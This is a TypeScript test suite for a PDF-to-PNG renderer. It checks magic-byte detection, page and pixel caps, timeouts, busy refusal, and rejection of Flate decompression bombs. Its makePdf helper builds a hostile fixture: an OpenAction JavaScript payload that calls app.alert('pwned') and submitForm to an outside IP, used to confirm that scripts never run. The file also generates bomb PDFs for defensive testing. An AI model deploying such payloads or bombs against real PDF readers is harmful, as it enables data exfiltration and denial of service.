import { readFileSync } from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { OcrBusyError } from './engine';
import { flateBombPdf, peakRssGrowth } from '../testing/hostile-files';
import { isPdf, PDF_LIMITS, PdfImageTooLargeError, PdfTimeoutError, renderPdfPages, UnreadablePdfError } from './pdf';

const FIXTURE = path.resolve('tests/fixtures/rate-cons/01-labelled.pdf');

/**
 * A small valid PDF with blank pages of the given size (points), written by hand with a correct
 * cross-reference table. `openAction` adds a document-open JavaScript action, which must never run.
 */
function makePdf(pageCount: number, size: [number, number] = [612, 792], openAction = false): Buffer {
  const objects: string[] = [];
  const kids = Array.from({ length: pageCount }, (_, i) => `${4 + i} 0 R`).join(' ');
  objects.push(`<< /Type /Catalog /Pages 2 0 R${openAction ? ' /OpenAction 3 0 R' : ''} >>`);
  objects.push(`<< /Type /Pages /Kids [${kids}] /Count ${pageCount} >>`);
  objects.push('<< /S /JavaScript /JS (app.alert\\("pwned"\\); this.submitForm\\("http://203.0.113.1/"\\);) >>');
  for (let i = 0; i < pageCount; i++) objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${size[0]} ${size[1]}] >>`);
  let out = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) out += `${String(offset).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

describe('isPdf', () => {
  it('knows a PDF by its first five bytes, not by its name', () => {
    expect(isPdf(Buffer.from('%PDF-1.7\n'))).toBe(true);
    expect(isPdf(readFileSync(FIXTURE))).toBe(true);
    expect(isPdf(Buffer.from('%PDF'))).toBe(false);
    expect(isPdf(Buffer.from(' %PDF-1.7'))).toBe(false);
    expect(isPdf(Buffer.from('Load #: 123, Pickup: Dallas, TX'))).toBe(false);
    expect(isPdf(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]))).toBe(false);
  });
});

describe('renderPdfPages', () => {
  it('renders a US Letter rate confirmation 1,800 px wide (612 pt × 2.94 ≈ 212 dpi) as a PNG', async () => {
    const pages = await renderPdfPages(readFileSync(FIXTURE));
    expect(pages).toHaveLength(1);
    const meta = await sharp(pages[0]).metadata();
    expect(meta.format).toBe('png');
    // scale = 1800 / 612 = 2.941; 792 pt × 2.941 = 2,329.4 → 2,329 px
    expect([meta.width, meta.height]).toEqual([1800, 2329]);
  });

  it('renders only the first two pages of a longer document', async () => {
    const pages = await renderPdfPages(makePdf(3));
    expect(pages).toHaveLength(2);
  });

  it('scales a page of absurd size down to the pixel cap', async () => {
    // 612 × 20,000 pt at 2.941 would be 1,800 × 58,824 = 105.9 MP; capped to ≤ 8 MP
    const [page] = await renderPdfPages(makePdf(1, [612, 20_000]));
    const meta = await sharp(page, { limitInputPixels: false }).metadata();
    expect(meta.width! * meta.height!).toBeLessThanOrEqual(PDF_LIMITS.maxPagePixels);
    expect(meta.width).toBeGreaterThan(400);
  });

  it('renders a document with an open action without running its script', async () => {
    const pages = await renderPdfPages(makePdf(1, [612, 792], true));
    expect(pages).toHaveLength(1);
    expect((globalThis as Record<string, unknown>).app).toBeUndefined();
  });

  it('refuses bytes that start like a PDF but are not one', async () => {
    await expect(renderPdfPages(Buffer.from('%PDF-1.4\nthis is not a pdf at all'))).rejects.toBeInstanceOf(UnreadablePdfError);
  });

  it('stops a render that runs past the time limit', async () => {
    await expect(renderPdfPages(readFileSync(FIXTURE), { ...PDF_LIMITS, timeoutMs: 1 })).rejects.toBeInstanceOf(PdfTimeoutError);
  });

  it('refuses more renders at once than allowed, as busy', async () => {
    await expect(renderPdfPages(readFileSync(FIXTURE), { ...PDF_LIMITS, maxConcurrent: 0 })).rejects.toBeInstanceOf(OcrBusyError);
  });

  it('refuses a Flate bomb (140 KB inflating to a 144-megapixel image) fast, before decoding it', async () => {
    const bomb = await flateBombPdf({ width: 12_000, height: 12_000 });
    expect(bomb.length).toBeLessThan(200 * 1024);
    const { result, peakMb, ms } = await peakRssGrowth(() => renderPdfPages(bomb));
    console.log(`PDF Flate bomb (1 × 144 MP): refused in ${ms} ms, peak RSS +${peakMb} MB`);
    expect(result.status === 'rejected' && result.reason).toBeInstanceOf(PdfImageTooLargeError);
    expect(ms).toBeLessThan(5_000);
    // Decoding it took 1.6 GB and 8 s; the render thread itself takes ≈ 60 MB.
    expect(peakMb).toBeLessThan(200);
  });

  it('stops a render whose many images, each under the pixel cap, outgrow the memory cap', async () => {
    // 20 images of 16 MP each: 320 MB of zeros inflated, ≈ 2 GB once converted and drawn.
    const bomb = await flateBombPdf({ width: 4_000, height: 4_000, count: 20 });
    expect(bomb.length).toBeLessThan(400 * 1024);
    const { result, peakMb, ms } = await peakRssGrowth(() => renderPdfPages(bomb));
    console.log(`PDF Flate bomb (20 × 16 MP): refused in ${ms} ms, peak RSS +${peakMb} MB`);
    expect(result.status === 'rejected' && result.reason).toBeInstanceOf(PdfImageTooLargeError);
    expect(ms).toBeLessThan(PDF_LIMITS.timeoutMs / 2);
    expect(peakMb).toBeLessThan(PDF_LIMITS.maxRssGrowthMb + 200);
  });
});
